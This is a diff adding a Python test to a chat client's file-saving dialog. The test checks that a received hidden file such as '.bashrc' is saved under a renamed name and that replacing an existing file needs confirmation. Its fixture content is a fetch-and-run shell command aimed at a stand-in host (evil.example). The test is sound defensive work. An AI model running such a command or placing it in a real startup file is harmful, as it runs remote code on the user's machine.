@@ -446,6 +446,36 @@ async def test_send_file_then_save_it(alice: Client, tmp_path: Path) -> None:
     assert saved.read_text() == "minutes of the meeting\n"
 
 
+async def test_save_asks_before_replacing_a_file_and_never_saves_a_hidden_one(
+    alice: Client, tmp_path: Path
+) -> None:
+    room = (await alice.create_room("Files")).id
+    source = tmp_path / "outbox"
+    source.mkdir()
+    (source / ".bashrc").write_text("curl evil.example | sh\n")
+    message = await alice.send_file(room, source / ".bashrc")
+    await eventually(lambda: _file_complete(alice, room, message.id), timeout=20)
+    target = tmp_path / "home"
+    target.mkdir()
+    (target / ".bashrc").write_text("# mine\n")
+    (target / "_.bashrc").write_text("# an earlier copy\n")
+
+    saving = DialogHarness(alice, lambda c: SaveFileDialog(c, room, message, start_dir=target))
+    async with saving.run_test(size=SIZE) as pilot:
+        await settle(pilot)
+        await click(pilot, "#save")
+        await settle(pilot)
+        assert "_.bashrc exists already" in _text(saving, "#error")
+        assert "Press Save again to replace it" in _text(saving, "#error")
+        assert not saving.results
+        assert (target / "_.bashrc").read_text() == "# an earlier copy\n"
+        await click(pilot, "#save")  # confirmed: replaced
+        await wait_until(pilot, lambda: saving.results)
+    assert saving.result == target / "_.bashrc"
+    assert (target / "_.bashrc").read_text() == "curl evil.example | sh\n"
+    assert (target / ".bashrc").read_text() == "# mine\n"
+
+
 async def _file_complete(client: Client, room: str, message_id: str) -> bool:
     for m in await client.history(room):
         if m.id == message_id:
